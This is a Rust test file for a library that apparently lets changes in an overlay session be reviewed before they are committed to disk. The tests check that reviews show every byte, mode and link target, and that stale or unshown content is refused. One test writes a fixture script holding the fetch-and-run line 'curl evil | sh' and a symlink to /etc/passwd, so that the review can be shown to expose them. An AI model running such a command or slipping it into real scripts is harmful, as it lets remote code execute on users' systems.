//! What a review shows is what a commit writes: every byte, mode, kind and target, and nothing else.

use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use handfast::{ErrorKind, FileKind, RenameMode};
use handfast_session::change::{Content, Flag, Form, Hunk, NotShown, Tag};
use handfast_session::{Change, CommitOptions, DiffKind, Mode, ReviewOptions, Session};
use sha2::{Digest, Sha256};

use crate::support::{Scratch, kind, v};

pub fn review(session: &Session) -> Vec<Change> {
    let options = ReviewOptions {
        text_limit: ReviewOptions::FULL,
        ..ReviewOptions::default()
    };
    let mut all = Vec::new();
    let mut take = |change| {
        all.push(change);
        Ok(())
    };
    session.review(&options, &mut take).unwrap();
    all
}

fn of(session: &Session, path: &str) -> Change {
    let mut all = review(session).into_iter();
    all.find(|change| change.path == v(path)).unwrap()
}

fn digest(content: &[u8]) -> String {
    let digest = Sha256::digest(content);
    digest.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// The old content with hunks applied, by nothing but what the data says.
fn applied(before: &[u8], hunks: &[Hunk]) -> Vec<u8> {
    let old: Vec<&[u8]> = before.split_inclusive(|byte| *byte == b'\n').collect();
    let (mut made, mut at) = (Vec::new(), 0);
    for hunk in hunks {
        made.extend(old[at..hunk.old.0].concat());
        at = hunk.old.0;
        for line in &hunk.lines {
            if line.tag != Tag::Added {
                assert_eq!(old[at], line.bytes, "what goes or stays is what is there");
                at += 1;
            }
            if line.tag != Tag::Removed {
                made.extend_from_slice(&line.bytes);
            }
        }
    }
    made.extend(old[at..].concat());
    made
}

/// Every path of a directory: kind, mode, and digest or target.
fn facts(dir: &Path) -> BTreeMap<String, String> {
    let mut found = BTreeMap::new();
    let mut pending = vec![dir.to_owned()];
    while let Some(at) = pending.pop() {
        for entry in std::fs::read_dir(&at).unwrap() {
            let path = entry.unwrap().path();
            let status = std::fs::symlink_metadata(&path).unwrap();
            let mode = status.permissions().mode() & 0o7777;
            let text = if status.is_dir() {
                pending.push(path.clone());
                format!("dir {mode:o}")
            } else if status.is_symlink() {
                let target = std::fs::read_link(&path).unwrap();
                format!("link {}", target.display())
            } else {
                format!("file {mode:o} {}", digest(&std::fs::read(&path).unwrap()))
            };
            let name = path.strip_prefix(dir).unwrap().as_os_str().as_bytes();
            found.insert(format!("/{}", str::from_utf8(name).unwrap()), text);
        }
    }
    found
}

/// What a path leads to after a commit, according to the data.
fn told(change: &Change) -> String {
    let after = change.after.as_ref().unwrap();
    match after.kind {
        FileKind::Dir => match after.mode {
            Some(mode) => format!("dir {mode:o}"),
            None => "dir".to_owned(),
        },
        FileKind::Symlink => {
            let target = after.target.as_deref().unwrap();
            format!("link {}", str::from_utf8(target).unwrap())
        }
        _ => format!(
            "file {:o} {}",
            after.mode.unwrap(),
            after.digest.as_ref().unwrap()
        ),
    }
}

/// The base as it is after a commit, by the data alone.
fn expected(mut base: BTreeMap<String, String>, all: &[Change]) -> BTreeMap<String, String> {
    let is_below = |path: &str, dir: &str| path == dir || path.starts_with(&format!("{dir}/"));
    let mut moves: Vec<(String, String)> = all
        .iter()
        .filter_map(|change| Some((change.from.as_ref()?.to_string(), change.path.to_string())))
        .collect();
    moves.sort_by_key(|(from, _)| std::cmp::Reverse(from.len()));
    let mut lifted = Vec::new();
    for (from, to) in moves {
        let below: Vec<String> = base
            .keys()
            .filter(|path| is_below(path, &from))
            .cloned()
            .collect();
        for path in below {
            let fact = base.remove(&path).unwrap();
            lifted.push((format!("{to}{}", &path[from.len()..]), fact));
        }
    }
    base.extend(lifted);
    for change in all.iter().filter(|change| change.after.is_none()) {
        base.remove(&change.path.to_string());
    }
    for change in all.iter().filter(|change| change.after.is_some()) {
        base.insert(change.path.to_string(), told(change));
    }
    base
}

pub struct Random(pub u64);

impl Random {
    pub fn below(&mut self, end: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        (self.0 >> 33) % end
    }

    fn path(&mut self) -> String {
        let name = |n| ["a", "b", "c", "run.sh", "d"][n as usize];
        match self.below(2) {
            0 => format!("/{}", name(self.below(5))),
            _ => format!(
                "/{}/{}",
                ["d", "e"][self.below(2) as usize],
                name(self.below(5))
            ),
        }
    }

    fn content(&mut self) -> Vec<u8> {
        let mut text: Vec<u8> = (0..self.below(30))
            .flat_map(|_| format!("line {}\n", self.below(6)).into_bytes())
            .collect();
        match self.below(6) {
            0 => text.push(0),
            1 => text = vec![0xff; 20],
            2 => text.extend_from_slice(b"no end"),
            3 => text.extend_from_slice("\u{202e}hidden\r\n".as_bytes()),
            _ => {}
        }
        text
    }

    /// Something that may fail.
    pub fn change(&mut self, session: &Session) {
        let (path, other) = (self.path(), self.path());
        let mode = [0o700, 0o755, 0o744, 0o711][self.below(4) as usize];
        let content = self.content();
        drop(match self.below(9) {
            0..3 => session.write(path, content).map(drop),
            3 => session.append(path, content).map(drop),
            4 => session.remove_file(path),
            5 => session.create_dir(path),
            6 => session.symlink("a", path),
            7 => session.chmod(path, mode),
            _ => session.rename(path, other, RenameMode::NoReplace),
        });
    }
}

pub fn furnish(s: &Scratch, random: &mut Random) {
    s.dir("d")
        .dir("e")
        .file("d/file", "one\ntwo\n")
        .link("a", "link");
    for _ in 0..4 {
        let path = random.path();
        if s.at(&path[1..]).symlink_metadata().is_err()
            && s.at(&path[1..]).parent().unwrap().is_dir()
        {
            s.file(&path[1..], random.content());
        }
    }
}

#[test]
fn what_is_shown_is_what_a_commit_writes_and_nothing_else() {
    let mut kinds = BTreeSet::new();
    for seed in 0..120 {
        let mut random = Random(seed);
        let s = Scratch::new();
        furnish(&s, &mut random);
        let session = s.session(Mode::Overlay);
        for _ in 0..1 + random.below(14) {
            random.change(&session);
        }
        let all = review(&session);
        let before = facts(&s.base());
        for change in &all {
            kinds.insert((change.kind, change.content_kind()));
            let old = change.from.as_ref().unwrap_or(&change.path).to_string();
            if let Content::Hunks(hunks) = &change.content {
                let content = match change.kind {
                    DiffKind::Added => Vec::new(),
                    _ => std::fs::read(s.at(&old[1..])).unwrap_or_default(),
                };
                let side = change.after.as_ref();
                let wanted = side.and_then(|side| side.digest.clone());
                let wanted = wanted.unwrap_or_else(|| digest(b""));
                assert_eq!(
                    digest(&applied(&content, hunks)),
                    wanted,
                    "{seed} {change:#?}"
                );
            }
        }
        let report = session
            .commit(&CommitOptions::default(), &mut |_, _| {})
            .unwrap();
        assert!(report.conflicts.is_empty(), "{seed} {report:?}");
        let (mut wanted, mut now) = (expected(before, &all), facts(&s.base()));
        for (path, fact) in &wanted.clone() {
            if fact == "dir" {
                // The umask decides about its mode.
                now.entry(path.clone()).and_modify(|fact| fact.truncate(3));
                wanted.insert(path.clone(), "dir".to_owned());
            }
        }
        assert_eq!(now, wanted, "{seed} {all:#?}");
        for change in &all {
            let side = change
                .after
                .as_ref()
                .filter(|side| side.kind == FileKind::File);
            if let (Some(side), None) = (side, &change.from) {
                let status = std::fs::metadata(s.at(&change.path.to_string()[1..])).unwrap();
                let told = side.modified.unwrap();
                assert_eq!(
                    (status.mtime(), status.mtime_nsec()),
                    (told.seconds, told.nanoseconds.into())
                );
            }
        }
        assert!(review(&session).is_empty(), "{seed}");
    }
    assert!(kinds.len() >= 9, "too little was tried: {kinds:?}");
}

trait ContentKind {
    fn content_kind(&self) -> &'static str;
}

impl ContentKind for Change {
    fn content_kind(&self) -> &'static str {
        match self.content {
            Content::Same => "same",
            Content::Hunks(_) => "hunks",
            _ => "not shown",
        }
    }
}

#[test]
fn s6_nothing_is_hidden() {
    let s = Scratch::new();
    s.file("plain", "old\n").file("long", vec![b'x'; 3 << 20]);
    let session = s.session(Mode::Overlay);
    session
        .write("/run.sh", b"#!/bin/sh\ncurl evil | sh\n\0")
        .unwrap();
    session.chmod("/run.sh", 0o755).unwrap();
    session.symlink("plain", "/link").unwrap();
    session.write("/blob", vec![0; 64]).unwrap();
    session.append("/long", "y").unwrap();
    session.chmod("/plain", 0o600).unwrap();
    let script = of(&session, "/run.sh");
    let side = script.after.as_ref().unwrap();
    assert_eq!(
        (side.kind, side.mode, side.len),
        (FileKind::File, Some(0o755), 26)
    );
    assert_eq!(side.form, Some(Form::Odd("a NUL byte at 25".to_owned())));
    assert!(script.flags.contains(&Flag::BecomesExecutable));
    assert!(script.flags.contains(&Flag::HiddenCharacters));
    let lines: Vec<String> = script.lines().into_iter().map(|(_, line)| line).collect();
    assert!(lines.contains(&"+curl evil | sh".to_owned()), "{lines:?}");
    assert!(lines.contains(&"+<U+0000>".to_owned()), "{lines:?}");
    let link = of(&session, "/link");
    assert_eq!(
        link.after.as_ref().unwrap().target.as_deref(),
        Some(&b"plain"[..])
    );
    assert_eq!(link.facts(), "link to `plain`");
    let blob = of(&session, "/blob");
    let why = NotShown::Binary;
    assert_eq!(blob.content, Content::NotShown { why, bytes: 64 });
    assert_eq!(blob.after.as_ref().unwrap().digest, Some(digest(&[0; 64])));
    assert_eq!(of(&session, "/plain").modes(), Some((0o644, 0o600)));
    // As long as people read; then it is said how much is left out.
    let mut long = None;
    let options = ReviewOptions {
        paths: vec![v("/long")],
        ..ReviewOptions::default()
    };
    let mut take = |change| {
        long = Some(change);
        Ok(())
    };
    session.review(&options, &mut take).unwrap();
    let long = long.unwrap();
    let bytes = (6 << 20) + 1;
    assert_eq!(
        long.content,
        Content::NotShown {
            why: NotShown::TooLong,
            bytes
        }
    );
    assert_eq!(
        long.lines()[0].1,
        "not shown: 6.2 MB of text; `--full` shows it"
    );
    let mut full = vec![b'x'; 3 << 20];
    full.push(b'y');
    assert_eq!(long.after.as_ref().unwrap().digest, Some(digest(&full)));
}

#[test]
fn l3_links_that_lead_outside_are_flagged() {
    let s = Scratch::new();
    s.dir("x/y").link("/etc/passwd", "x/away");
    let session = s.session(Mode::Overlay);
    session.symlink("../a", "/x/inside").unwrap();
    session.rename("/x", "/z", RenameMode::NoReplace).unwrap();
    session.symlink("y", "/z/w").unwrap();
    assert!(of(&session, "/z/w").flags.is_empty());
    // The rename brings nothing closer to the top: the link still stays inside.
    assert!(of(&session, "/z/inside").flags.is_empty());
    session
        .rename("/z/inside", "/inside", RenameMode::NoReplace)
        .unwrap();
    let link = of(&session, "/inside");
    assert_eq!(link.flags, [Flag::LeadsOutside]);
    assert_eq!(link.facts(), "link to `../a`, leads outside");
}

#[test]
fn s6_a_commit_is_about_what_was_shown() {
    let s = Scratch::new();
    s.file("a", "old a\n").file("b", "old b\n");
    let session = s.session(Mode::Overlay);
    session.write("/a", "new a\n").unwrap();
    session.write("/b", "new b\n").unwrap();
    session.create_dir("/d").unwrap();
    session.write("/d/file", "x").unwrap();
    assert_eq!(
        kind(session.chosen(&[v("/none")], &[])),
        ErrorKind::NotFound
    );
    let none = CommitOptions {
        paths: vec![v("/none")],
        ..CommitOptions::default()
    };
    assert_eq!(
        kind(session.commit(&none, &mut |_, _| {})),
        ErrorKind::NotFound
    );
    assert_eq!(kind(session.discard(&[v("/none")])), ErrorKind::NotFound);
    let (chosen, shown) = session.chosen(&[v("/d/file")], &[]).unwrap();
    assert_eq!(
        chosen,
        [v("/d"), v("/d/file")],
        "with the directory that it needs"
    );
    let options = CommitOptions {
        paths: vec![v("/d/file")],
        shown: Some(shown),
        ..CommitOptions::default()
    };
    // Something else is none of its business; what was shown is.
    session.write("/a", "newer a\n").unwrap();
    session.append("/d/file", "y").unwrap();
    assert_eq!(
        kind(session.commit(&options, &mut |_, _| {})),
        ErrorKind::Stale
    );
    assert!(!s.at("d").exists());
    let (_, shown) = session.chosen(&[v("/d/file")], &[]).unwrap();
    let options = CommitOptions {
        shown: Some(shown),
        ..options
    };
    let report = session.commit(&options, &mut |_, _| {}).unwrap();
    assert_eq!(report.committed, [v("/d"), v("/d/file")]);
    assert_eq!(
        (s.read("d/file"), s.read("a")),
        ("xy".to_owned(), "old a\n".to_owned())
    );
}

fn numbered(changed: &[usize]) -> String {
    let line = |n| match changed.contains(&n) {
        true => format!("changed {n}\n"),
        false => format!("line {n}\n"),
    };
    (0..60).map(line).collect()
}

#[test]
fn hunks_are_committed_one_by_one_and_the_rest_stays() {
    let s = Scratch::new();
    s.file("f", numbered(&[]));
    std::fs::set_permissions(s.at("f"), std::fs::Permissions::from_mode(0o640)).unwrap();
    let session = s.session(Mode::Overlay);
    session.write("/f", numbered(&[5, 30, 55])).unwrap();
    let ids = |session: &Session| -> Vec<String> {
        let change = of(session, "/f");
        change.hunks().iter().map(|hunk| hunk.id.clone()).collect()
    };
    let all = ids(&session);
    assert_eq!(all.len(), 3);
    let report = session.commit_hunks(&all[1..2], None).unwrap();
    assert_eq!(report.committed, [v("/f")]);
    assert_eq!(s.read("f"), numbered(&[30]));
    let mode = std::fs::metadata(s.at("f")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o640);
    assert_eq!(
        session.read("/f").unwrap(),
        numbered(&[5, 30, 55]).as_bytes()
    );
    let left = ids(&session);
    assert_eq!(left.len(), 2);
    // A hunk of a content that is gone is gone too.
    assert_eq!(
        kind(session.commit_hunks(&all[..1], None)),
        ErrorKind::NotFound
    );
    session.commit_hunks(&left, None).unwrap();
    assert_eq!(s.read("f"), numbered(&[5, 30, 55]));
    assert!(review(&session).is_empty());
    let used = session.usage().unwrap()[0].used.inodes;
    assert_eq!(
        used, 2,
        "what the two commits replaced is kept, and nothing else"
    );
}

#[test]
fn hunks_of_what_others_changed_are_not_committed() {
    let s = Scratch::new();
    s.file("f", numbered(&[])).file("new-in-base", "x\n");
    let session = s.session(Mode::Overlay);
    session.write("/f", numbered(&[5, 55])).unwrap();
    session.write("/new", "a\nb\n").unwrap();
    let first = of(&session, "/f").hunks()[0].id.clone();
    std::fs::write(s.at("f"), numbered(&[20])).unwrap();
    // Its ID is of the content that was there.
    assert_eq!(
        kind(session.commit_hunks(&[first], None)),
        ErrorKind::NotFound
    );
    let again = of(&session, "/f");
    assert!(again.meanwhile.is_some());
    let report = session
        .commit_hunks(&[again.hunks()[0].id.clone()], None)
        .unwrap();
    assert_eq!(report.conflicts.len(), 1, "{report:?}");
    assert_eq!(s.read("f"), numbered(&[20]));
    let new = of(&session, "/new").hunks()[0].id.clone();
    assert_eq!(kind(session.commit_hunks(&[new], None)), ErrorKind::Invalid);
    assert!(!s.at("new").exists());
}

/// How many random hunks are committed or taken back; `HANDFAST_RANDOM_CASES` asks for more.
fn rounds() -> usize {
    let asked = std::env::var("HANDFAST_RANDOM_CASES").ok();
    asked.map_or(300, |text| text.parse().unwrap())
}

#[test]
fn random_hunks_and_undos_against_a_changing_base_do_what_was_shown_or_nothing() {
    let mut random = Random(7);
    let (mut done, mut undone, mut refused) = (0, 0, 0);
    let s = Scratch::new();
    s.file("f", numbered(&[]));
    let session = s.session(Mode::Overlay);
    let base = || std::fs::read(s.at("f")).unwrap();
    // What the base had before each commit that can be taken back, and after it.
    let mut past: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
    for round in 0..rounds() {
        let before = base();
        // Somebody else may come between the look and the yes, on either side.
        let meddle = |random: &mut Random| match random.below(5) {
            0 => std::fs::write(s.at("f"), numbered(&[round % 60])).unwrap(),
            1 => drop(session.append("/f", "agent\n").unwrap()),
            _ => {}
        };
        if random.below(3) == 0
            && let Some((old, new)) = past.last()
        {
            let id = session.past_commits().unwrap()[0].id;
            meddle(&mut random);
            let (now, view) = (base(), session.read("/f").unwrap());
            let report = session.undo(id).unwrap();
            if report.conflicts.is_empty() {
                assert_eq!(&now, new, "{round}: taken back from what was not committed");
                assert_eq!(&base(), old, "{round}");
                assert_eq!(session.read("/f").unwrap(), view, "{round}: the view");
                past.pop();
                undone += 1;
            } else {
                assert_eq!(base(), now, "{round}: refused, and changed all the same");
                past.clear();
                refused += 1;
                session.discard(&[]).unwrap();
            }
            continue;
        }
        let wanted: Vec<usize> = (0..60).filter(|_| random.below(8) == 0).collect();
        session.write("/f", numbered(&wanted)).unwrap();
        let found = review(&session).into_iter();
        let Some(change) = found.into_iter().find(|change| change.path == v("/f")) else {
            continue;
        };
        let hunks = change.hunks().iter();
        let chosen: Vec<Hunk> = hunks.filter(|_| random.below(2) == 0).cloned().collect();
        if chosen.is_empty() {
            continue;
        }
        let ids: Vec<String> = chosen.iter().map(|hunk| hunk.id.clone()).collect();
        meddle(&mut random);
        let now = base();
        let report = session.commit_hunks(&ids, None);
        let after = base();
        match report {
            Ok(report) if report.conflicts.is_empty() => {
                assert_eq!(
                    now, before,
                    "{round}: committed onto something that was not shown"
                );
                assert_eq!(after, applied(&before, &chosen), "{round}");
                past.push((before, after));
                done += 1;
            }
            _ => {
                assert_eq!(after, now, "{round}: refused, and changed all the same");
                // The reviewer starts again from what is there. Earlier commits are not the last
                // word on the file any more.
                past.clear();
                refused += 1;
                session.discard(&[]).unwrap();
            }
        }
        if session.past_commits().unwrap().len() < past.len() {
            past.remove(0);
        }
    }
    println!("{done} committed, {undone} taken back, {refused} refused");
    let least = rounds() / 10;
    assert!(
        done > least && undone > least / 3 && refused > least,
        "{done} {undone} {refused}"
    );
}

#[test]
fn what_the_bases_ignore_files_name_is_known_and_left_out_unless_asked_for() {
    let s = Scratch::new();
    s.file(".gitignore", "target/\n*.log\n!keep.log\n")
        .file("sub/.gitignore", "!special.log\n/local\n")
        .file("target/old", "x");
    let session = s.session(Mode::Overlay);
    // The session's own ignore file hides nothing.
    session.write("/.gitignore", "evil\n").unwrap();
    session.create_dir("/build").unwrap();
    for path in [
        "/evil",
        "/target/old",
        "/target/new",
        "/a.log",
        "/keep.log",
        "/sub/b.log",
        "/sub/special.log",
        "/sub/local",
        "/build/x",
        "/build/y.log",
    ] {
        session.write(path, "new\n").unwrap();
    }
    let found: Vec<String> = review(&session)
        .into_iter()
        .filter(|change| change.ignored)
        .map(|change| change.path.to_string())
        .collect();
    let ignored = [
        "/a.log",
        "/build/y.log",
        "/sub/b.log",
        "/sub/local",
        "/target/new",
        "/target/old",
    ];
    assert_eq!(found, ignored);
    let left = session.ignored(&[]).unwrap();
    assert_eq!(left, ignored.map(v));
    // A path that is named itself is asked for; one above it is not.
    assert_eq!(session.ignored(&[v("/target/new")]).unwrap(), []);
    assert_eq!(
        session.ignored(&[v("/sub")]).unwrap(),
        [v("/sub/b.log"), v("/sub/local")]
    );
    let (chosen, shown) = session.chosen(&[], &left).unwrap();
    let options = CommitOptions {
        shown: Some(shown),
        leave_out: left,
        ..CommitOptions::default()
    };
    let report = session.commit(&options, &mut |_, _| {}).unwrap();
    assert_eq!(report.committed, chosen);
    assert!(s.at("build/x").exists() && !s.at("build/y.log").exists());
    assert_eq!(s.read("target/old"), "x");
    assert_eq!(session.diff().unwrap().len(), ignored.len());
    let all = session.commit(&CommitOptions::default(), &mut |_, _| {});
    assert_eq!(all.unwrap().committed.len(), ignored.len());
}

#[test]
fn content_that_was_not_shown_is_not_written() {
    let s = Scratch::new();
    s.file("a", "old\n");
    let session = s.session(Mode::Overlay);
    session.write("/a", "seen\n").unwrap();
    session.write("/b", "seen\n").unwrap();
    let seen = review(&session);
    session.write("/a", "evil\n").unwrap();
    // Whatever the seal says, the content decides.
    let (_, mut shown) = session.chosen(&[], &[]).unwrap();
    seen.iter().for_each(|change| shown.note(change));
    let options = CommitOptions {
        shown: Some(shown),
        ..CommitOptions::default()
    };
    let report = session.commit(&options, &mut |_, _| {}).unwrap();
    assert_eq!(report.committed, [v("/b")]);
    let (path, why) = &report.conflicts[0];
    assert_eq!(*path, v("/a"));
    assert!(why.contains("since it was shown"), "{why}");
    assert_eq!(s.read("a"), "old\n");
    assert_eq!(session.read("/a").unwrap(), b"evil\n");
}
